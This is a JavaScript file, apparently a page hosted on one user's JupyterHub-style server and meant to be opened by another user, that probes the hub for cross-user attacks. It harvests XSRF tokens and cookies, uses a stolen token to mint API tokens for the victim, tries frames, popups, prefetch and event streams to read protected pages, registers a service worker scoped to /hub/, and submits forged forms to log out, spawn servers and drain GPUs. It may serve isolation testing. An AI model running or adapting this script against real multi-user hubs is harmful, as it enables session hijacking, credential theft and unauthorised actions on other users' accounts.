// A page of s10's server, opened by s12: tries to have anything of hub, console and kernels service.
"use strict";

const found = (window.found = { loot: [], made: [], tried: 0 });
const PAGES = [
  "/hub/token", "/hub/home", "/hub/spawn", "/hub/nothing-here", "/hub/error/404", "/hub/login", "/hub/logout",
  "/hub/user/api/lab", "/hub/..%2Fhub/nothing", "/services/labcommons/", "/services/labcommons/quotas",
  "/services/labcommons/environments", "/services/labcommons/nothing", "/services/kernels/", "/services/kernels/nothing",
];
const SOME = ["/hub/token", "/hub/nothing-here", "/hub/user/api/lab", "/services/labcommons/", "/services/kernels/"];
const APIS = [
  "/hub/api/user", "/hub/api/users/s12/tokens", "/hub/api/nothing",
  "/services/labcommons/api/v1/me", "/services/kernels/api/v1/environments",
];
const STATIC = ["/hub/static/js/darkmode.js", "/hub/static/nothing", "/services/labcommons/assets/console.js"];
const SECRET = /xsrf_token: "[^"]+|_xsrf" value="[^"]+|data-xsrf="[^"]+|"name": ?"s12"|"environments":|s12/;
const XSRF = /(?:xsrf_token: "|_xsrf" value="|data-xsrf=")([^"]+)/;
const pause = (time) => new Promise((done) => setTimeout(done, time));

const take = async (how, text) => {
  found.tried += 1;
  if (!SECRET.test(text)) return;
  found.loot.push(`${how}: ${text.match(SECRET)[0].slice(0, 60)}`);
  const token = text.match(XSRF);
  if (token && !found.made.length && how.includes("/hub/")) await make(token[1]);
};
const make = async (token) => {
  const answer = await fetch("/hub/api/users/s12/tokens", {
    method: "POST", headers: { "X-XSRFToken": token, "Content-Type": "application/json" }, body: "{}",
  });
  if (answer.ok) found.made.push(`token: ${answer.status} ${(await answer.text()).slice(0, 300)}`);
};
const attempt = async (how, work) => {
  try {
    await work();
  } catch (error) {
    found.tried += 1;
  }
};

const first = async () => take("fetch /hub/token", await (await fetch("/hub/token")).text());

const fetches = async () => {
  const ways = {
    plain: {}, referrer: { referrer: "/hub/home", referrerPolicy: "unsafe-url" }, "no-cors": { mode: "no-cors" },
    "same-origin": { mode: "same-origin", credentials: "include" }, cached: { cache: "force-cache" },
    stored: { cache: "only-if-cached", mode: "same-origin" }, keepalive: { keepalive: true },
    authorization: { headers: { Authorization: "token made-up" } }, accept: { headers: { Accept: "text/html" } },
    xsrf: { headers: { "X-XSRFToken": "made-up" } },
    post: { method: "POST", body: new URLSearchParams({ _xsrf: "made-up", confirmed: "yes" }) },
  };
  await Promise.all([...SOME, ...APIS].flatMap((url) => Object.entries(ways).map(([way, options]) =>
    attempt(url, async () => take(`fetch ${way} ${url}`, await (await fetch(url, options)).text())))));
  await Promise.all(PAGES.map((url) => attempt(url, async () =>
    take(`fetch argument ${url}`, await (await fetch(`${url}?_xsrf=made-up&next=/hub/home`)).text()))));
  await Promise.all(PAGES.map((url) => attempt(url, () => new Promise((done) => {
    const asked = new XMLHttpRequest();
    asked.onloadend = () => done(take(`xhr ${url}`, asked.responseText));
    asked.open("GET", url);
    asked.send();
  }))));
};

const element = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));

const frames = async () => {
  const made = [...SOME, ...STATIC, "/hub/api/user"].map((url) => element("iframe", { src: url }));
  for (const url of SOME) made.push(element("object", { data: url }), element("embed", { src: url }));
  await pause(2500);
  for (const one of made) {
    await attempt("frame", () => take(`${one.localName} ${one.src || one.data}`,
      (one.contentDocument ?? one.getSVGDocument()).documentElement.outerHTML));
    one.remove();
  }
};

const cookies = async () => {
  const here = location.href;
  for (const path of ["/hub/home", "/services/labcommons/", "/services/kernels/"]) {
    // The address changes, the page does not: whose cookies are read now?
    history.replaceState(null, "", path);
    await attempt("cookie", () => {
      if (/_xsrf|hub-login|service-/.test(document.cookie)) found.loot.push(`cookie at ${path}: ${document.cookie}`);
    });
    await attempt("cookieStore", async () => {
      for (const one of await cookieStore.getAll())
        if (/_xsrf|hub-login|service-/.test(one.name)) found.loot.push(`cookieStore at ${path}: ${one.name}`);
    });
  }
  history.replaceState(null, "", here);
};

const popups = async (urls) => {
  const windows = urls.map((url) => [url, window.open(url)]);
  found.opened = (found.opened ?? 0) + windows.filter(([, one]) => one).length;
  const end = Date.now() + 8000;
  let left = windows;
  // Until each is cut off from us, or is there to be read.
  while (left.length && Date.now() < end) {
    await pause(200);
    const still = [];
    for (const [url, one] of left) {
      try {
        if (!one || one.closed) continue;
        if (one.location.href === "about:blank" || one.document.readyState !== "complete") still.push([url, one]);
        else found.loot.push(`window ${url}: ${one.location.href} ${one.document.documentElement.outerHTML.slice(0, 80)}`);
        if (one.location.href !== "about:blank") await take(`window ${url}`, one.document.documentElement.outerHTML);
      } catch {
        still.push([url, one]);
      }
    }
    left = still;
  }
  for (const [, one] of windows) one?.close();
};

const worker = () => attempt("service worker", async () => {
  await navigator.serviceWorker.register("/user/s10/worker.js", { scope: "/hub/" });
  found.loot.push("a service worker for /hub/");
});

const prefetch = async () => {
  for (const url of PAGES) element("link", { rel: "prefetch", href: url });
  await pause(1000);
  await Promise.all(PAGES.map((url) => attempt(url, async () =>
    take(`prefetched ${url}`, await (await fetch(url, { cache: "force-cache" })).text()))));
};

const streams = () => Promise.all(["/services/kernels/api/v1/events", "/hub/api/users/s12/server/progress"].map((url) =>
  attempt(url, () => new Promise((done) => {
    const stream = new EventSource(url);
    stream.onopen = () => done(found.loot.push(`EventSource ${url}`));
    stream.onerror = () => { stream.close(); done(); };
  }))));

const forms = async () => {
  const wanted = [
    ["/hub/api/users/s12/tokens", "text/plain"], ["/hub/logout", ""], ["/hub/spawn/s12", ""], ["/hub/spawn/s12/other", ""],
    ["/services/labcommons/api/v1/gpus/drain", "text/plain"], ["/hub/api/users/s12/server", "text/plain"],
  ];
  for (const [action, enctype] of wanted) {
    const target = element("iframe", { name: `form${action}` });
    const form = element("form", { action, method: "post", enctype, target: target.name });
    for (const [name, value] of [["_xsrf", "made-up"], ["confirmed", "yes"], ["environment", "evil"], ["size", "small"]])
      form.append(Object.assign(document.createElement("input"), { name, value }));
    form.submit();
  }
  await pause(1500);
};

(async () => {
  for (const work of [first, fetches, streams, prefetch, frames, cookies, worker, forms]) {
    const began = Date.now();
    found.at = work.name;
    await Promise.race([attempt(work.name, work), pause(20000)]);
    (found.took ??= {})[work.name] = Date.now() - began;
  }
  found.at = "popups";
  const opened = [...SOME, ...STATIC, "/hub/logout", "/hub/error/404", "/hub/api/user", "/services/kernels/nothing"];
  await popups(opened.slice(0, 6));
  await popups(opened.slice(6));
  found.done = window.done = true;
})();
